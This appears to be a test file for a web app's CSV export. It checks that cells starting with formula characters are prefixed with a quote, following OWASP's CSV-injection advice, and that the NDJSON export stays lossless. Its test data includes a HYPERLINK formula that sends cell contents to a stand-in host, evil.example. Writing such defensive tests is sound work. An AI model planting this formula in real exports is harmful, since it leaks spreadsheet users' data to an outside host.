import t from 'tap'
import { parse } from 'csv-parse/sync'
import { bearer, build, sampleEvent, userWithToken } from '../helper.js'

/**
 * CSV export is for spreadsheets, which run a cell that starts with = + - @ (or tab or CR, which some
 * strip first) as a formula. OWASP's CSV-injection guidance: prefix such a cell with a single quote.
 */
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1']

t.test('CSV export neutralises cells that a spreadsheet would run as a formula', async (t) => {
  const app = await build(t)
  const headers = bearer(await userWithToken(app, { username: 'csv-all', roles: ['reader', 'writer'] }))
  for (const [i, formula] of FORMULAS.entries()) {
    const res = await app.inject({
      method: 'POST',
      url: '/events',
      headers,
      payload: sampleEvent({ description: formula, location: `safe ${i}`, event_type: formula.slice(0, 100) })
    })
    t.equal(res.statusCode, 201, `stored ${JSON.stringify(formula)}`)
  }
  const res = await app.inject({ method: 'GET', url: '/events/export?format=csv&order=asc', headers })
  t.equal(res.statusCode, 200)
  const [header, ...rows] = parse(res.body, { relax_quotes: true }) as string[][]
  const description = (header as string[]).indexOf('description')
  const location = (header as string[]).indexOf('location')
  const eventType = (header as string[]).indexOf('event_type')
  t.same(rows.map((row) => row[description]), FORMULAS.map((formula) => `'${formula}`), 'each formula cell starts with a quote')
  t.same(rows.map((row) => row[eventType]), FORMULAS.map((formula) => `'${formula}`), 'in every column')
  t.same(rows.map((row) => row[location]), FORMULAS.map((_, i) => `safe ${i}`), 'other cells are unchanged')

  const ndjson = await app.inject({ method: 'GET', url: '/events/export?order=asc', headers })
  t.same(ndjson.body.trim().split('\n').map((line) => JSON.parse(line).description), FORMULAS, 'NDJSON stays lossless')
})
